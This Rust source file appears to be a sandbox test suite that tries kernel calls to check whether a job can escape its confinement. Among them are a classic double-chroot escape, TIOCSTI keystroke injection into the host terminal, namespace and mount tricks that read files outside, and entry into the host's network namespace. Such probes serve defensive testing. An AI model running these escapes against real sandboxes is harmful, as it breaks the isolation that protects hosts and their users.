//! The kernel's surface: rings, programs, namespaces, mounts and what else no job needs.
use std::fs::{self, File};
use std::io;
use std::os::fd::AsRawFd;
use std::sync::atomic::Ordering;

use crate::linux::sys::{self, call, own};
use crate::linux::{Attack, got_through, number, outside, token, variable};

pub const ALL: &[(&str, Attack)] = &[
    ("io-uring", io_uring),
    ("bpf", bpf),
    ("userfaultfd", userfaultfd),
    ("perf", perf),
    ("mount", mount),
    ("bind-mount", bind_mount),
    ("chroot", chroot),
    ("unshare", unshare),
    ("clone", clone),
    ("clone3", clone3),
    ("setns", setns),
    ("nested-mount", nested_mount),
    ("fsopen", fsopen),
    ("open-tree", open_tree),
    #[cfg(target_arch = "x86_64")]
    ("call-32", call_32),
    #[cfg(target_arch = "x86_64")]
    ("segment", segment),
    ("type-into-terminal", type_into_terminal),
    ("host-name", host_name),
    ("clock", clock),
    ("fanotify", fanotify),
    ("compare-processes", compare_processes),
    ("lock-list", lock_list),
];

/// Sends a request without an effect through a ring, past every filter of system calls.
fn io_uring() -> io::Result<()> {
    let mut parameters = [0_u8; 120];
    let ring = call!(libc::SYS_io_uring_setup, 4, &mut parameters[..])?;
    let field = |at: usize| u32::from_ne_bytes([0, 1, 2, 3].map(|byte| parameters[at + byte])) as usize;
    let place = |at: usize| field(at) / 4;
    let shared = libc::MAP_SHARED | libc::MAP_POPULATE;
    let submission = sys::map(4096, shared, ring as i32, 0)?;
    let completion = sys::map(4096, shared, ring as i32, 0x0800_0000)?;
    let requests = sys::map(4096, shared, ring as i32, 0x1000_0000)?;
    // The request is all zeros, which is "nothing", but for the number that comes back with its answer.
    requests[8].store(4711, Ordering::SeqCst);
    submission[place(40 + 24)].store(0, Ordering::SeqCst);
    submission[place(40 + 4)].store(1, Ordering::SeqCst);
    call!(libc::SYS_io_uring_enter, ring, 1, 1, 1, 0, 0)?;
    let answer = completion[place(80 + 20)].load(Ordering::SeqCst);
    if answer == 4711 { got_through() } else { Err(io::Error::other(format!("the ring answered {answer}"))) }
}

/// Keeps a value in a map of the kernel and gets it back.
fn bpf() -> io::Result<()> {
    const CREATE: i32 = 0;
    const LOOKUP: i32 = 1;
    const UPDATE: i32 = 2;
    let mut create = [0_u8; 72];
    for (at, value) in [(0, 2_u32), (4, 4), (8, 8), (12, 1)] {
        create[at..at + 4].copy_from_slice(&value.to_ne_bytes());
    }
    let map = call!(libc::SYS_bpf, CREATE, &create[..], create.len())?;
    let (key, value, mut found) = ([0_u8; 4], 4711_u64.to_ne_bytes(), [0_u8; 8]);
    let request = |value: *const u8| {
        let mut bytes = [0_u8; 72];
        bytes[..8].copy_from_slice(&map.to_ne_bytes());
        bytes[8..16].copy_from_slice(&(key.as_ptr() as u64).to_ne_bytes());
        bytes[16..24].copy_from_slice(&(value as u64).to_ne_bytes());
        bytes
    };
    call!(libc::SYS_bpf, UPDATE, &request(value.as_ptr())[..], 72)?;
    call!(libc::SYS_bpf, LOOKUP, &request(found.as_mut_ptr())[..], 72)?;
    if found == value { got_through() } else { Err(io::Error::other("the map is empty")) }
}

fn userfaultfd() -> io::Result<()> {
    const USER_MODE_ONLY: i32 = 1;
    const API: u64 = 0xc018_aa3f;
    let fd = call!(libc::SYS_userfaultfd, USER_MODE_ONLY)?;
    let mut hello = [0_u8; 24];
    hello[0] = 0xaa;
    call!(libc::SYS_ioctl, fd, API, &mut hello[..])?;
    got_through()
}

/// Counts the time that this process takes by an event of software.
fn perf() -> io::Result<()> {
    let mut event = [0_u8; 128];
    event[0] = 1;
    event[4] = 128;
    event[8] = 1;
    event[40] = 0x60;
    let counter = call!(libc::SYS_perf_event_open, &event[..], 0, -1, -1, 0)?;
    let mut count = [0_u8; 8];
    call!(libc::SYS_read, counter, &mut count[..], 8)?;
    got_through()
}

fn mount() -> io::Result<()> {
    fs::create_dir("mounted")?;
    call!(libc::SYS_mount, c"none", c"mounted", c"tmpfs", 0, 0)?;
    call!(libc::SYS_umount2, c"mounted", libc::MNT_DETACH)?;
    got_through()
}

fn bind_mount() -> io::Result<()> {
    fs::create_dir("mounted")?;
    let folder = crate::linux::c_text(&outside("")?)?;
    call!(libc::SYS_mount, &*folder, c"mounted", 0, libc::MS_BIND, 0)?;
    let found = fs::read_to_string("mounted/canary");
    call!(libc::SYS_umount2, c"mounted", libc::MNT_DETACH)?;
    println!("{}", found?);
    Ok(())
}

/// The classic: a second root below the directory that is held open makes `..` lead past the first.
fn chroot() -> io::Result<()> {
    let aim = variable("OUT")?;
    fs::create_dir("cell")?;
    call!(libc::SYS_chroot, c"cell")?;
    for _ in 0..64 {
        call!(libc::SYS_chdir, c"..")?;
    }
    call!(libc::SYS_chroot, c".")?;
    println!("{}", fs::read_to_string(format!("{aim}/canary"))?);
    Ok(())
}

fn unshare() -> io::Result<()> {
    call!(libc::SYS_unshare, libc::CLONE_NEWUSER)?;
    got_through()
}

fn clone() -> io::Result<()> {
    if sys::clone(libc::CLONE_NEWUSER | libc::CLONE_NEWPID)? {
        return got_through();
    }
    call!(libc::SYS_wait4, -1, 0, 0, 0).map(drop)
}

fn clone3() -> io::Result<()> {
    let mut request = [0_u8; 88];
    request[..8].copy_from_slice(&(libc::CLONE_NEWUSER as u64).to_ne_bytes());
    request[32..40].copy_from_slice(&(libc::SIGCHLD as u64).to_ne_bytes());
    if call!(libc::SYS_clone3, &request[..], request.len())? == 0 {
        return got_through();
    }
    call!(libc::SYS_wait4, -1, 0, 0, 0).map(drop)
}

/// Enters the network of a program outside.
fn setns() -> io::Result<()> {
    let space = File::open(format!("/proc/{}/ns/net", variable("HOST_PID")?))?;
    call!(libc::SYS_setns, space.as_raw_fd(), libc::CLONE_NEWNET)?;
    got_through()
}

/// Becomes root in a user namespace of its own and mounts what it could not see.
fn nested_mount() -> io::Result<()> {
    let (user, group) = (call!(libc::SYS_getuid)?, call!(libc::SYS_getgid)?);
    call!(libc::SYS_unshare, libc::CLONE_NEWUSER | libc::CLONE_NEWNS)?;
    fs::write("/proc/self/setgroups", "deny")?;
    fs::write("/proc/self/uid_map", format!("0 {user} 1"))?;
    fs::write("/proc/self/gid_map", format!("0 {group} 1"))?;
    bind_mount()
}

fn fsopen() -> io::Result<()> {
    let context = own(call!(libc::SYS_fsopen, c"tmpfs", 0)?);
    const CREATE: i32 = 6;
    call!(libc::SYS_fsconfig, context.as_raw_fd(), CREATE, 0, 0, 0)?;
    call!(libc::SYS_fsmount, context.as_raw_fd(), 0, 0)?;
    got_through()
}

/// A copy of a mount, open as a directory and in no list.
fn open_tree() -> io::Result<()> {
    const CLONE: u32 = 1;
    let folder = crate::linux::c_text(&outside("")?)?;
    let copy = own(call!(libc::SYS_open_tree, libc::AT_FDCWD, &*folder, CLONE)?);
    println!("{}", fs::read_to_string(format!("/proc/self/fd/{}/canary", copy.as_raw_fd()))?);
    Ok(())
}

/// A new user namespace by the number that the call has in the 32-bit table.
#[cfg(target_arch = "x86_64")]
fn call_32() -> io::Result<()> {
    const UNSHARE: i32 = 310;
    match sys::call_32(UNSHARE, libc::CLONE_NEWUSER) {
        0 => got_through(),
        error => Err(io::Error::from_raw_os_error(-error)),
    }
}

/// A segment of the job's own, an old source of holes in the kernel.
#[cfg(target_arch = "x86_64")]
fn segment() -> io::Result<()> {
    const WRITE: i32 = 1;
    let mut entry = [0_u8; 16];
    entry[8] = 0xff;
    entry[12] = 0x51;
    call!(libc::SYS_modify_ldt, WRITE, &entry[..], entry.len())?;
    let mut table = [0_u8; 8];
    if call!(libc::SYS_modify_ldt, 0, &mut table[..], 8)? == 8 { got_through() } else { Ok(()) }
}

/// Takes the host's terminal as its own and types into it.
fn type_into_terminal() -> io::Result<()> {
    if !sys::fork()? {
        return call!(libc::SYS_wait4, -1, 0, 0, 0).map(drop);
    }
    call!(libc::SYS_setsid)?;
    let terminal = File::options().read(true).write(true).open(variable("HOST_TERMINAL")?)?;
    for byte in format!("{}\n", token()?).bytes() {
        call!(libc::SYS_ioctl, terminal.as_raw_fd(), libc::TIOCSTI, &[byte][..])?;
    }
    Ok(())
}

/// Gives the machine the name that it has.
fn host_name() -> io::Result<()> {
    let mut names = [0_u8; 390];
    call!(libc::SYS_uname, &mut names[..])?;
    let name: Vec<u8> = names[65..].iter().copied().take_while(|byte| *byte != 0).collect();
    call!(libc::SYS_sethostname, &name[..], name.len())?;
    got_through()
}

/// Sets the clock's state to what it is.
fn clock() -> io::Result<()> {
    const STATUS: u32 = 0x10;
    let mut state = [0_u8; 208];
    call!(libc::SYS_adjtimex, &mut state[..])?;
    state[..4].copy_from_slice(&STATUS.to_ne_bytes());
    call!(libc::SYS_adjtimex, &mut state[..])?;
    got_through()
}

/// Watches what everybody opens on the file system outside.
fn fanotify() -> io::Result<()> {
    let watch = call!(libc::SYS_fanotify_init, 0, libc::O_RDONLY)?;
    let folder = crate::linux::c_text(&outside("")?)?;
    let (add_mount, opened) = (1 | 0x10, 0x20_u64);
    call!(libc::SYS_fanotify_mark, watch, add_mount, opened, libc::AT_FDCWD, &*folder)?;
    got_through()
}

/// Asks whether two processes share memory, which tells where the kernel keeps it.
fn compare_processes() -> io::Result<()> {
    const MEMORY: i32 = 1;
    call!(libc::SYS_kcmp, std::process::id(), number::<i32>("HOST_PID")?, MEMORY, 0, 0)?;
    got_through()
}

/// Asks where another process keeps its locks, which tells where its memory lies.
fn lock_list() -> io::Result<()> {
    let (mut head, mut length) = ([0_u8; 8], [0_u8; 8]);
    call!(libc::SYS_get_robust_list, number::<i32>("HOST_PID")?, &mut head[..], &mut length[..])?;
    got_through()
}
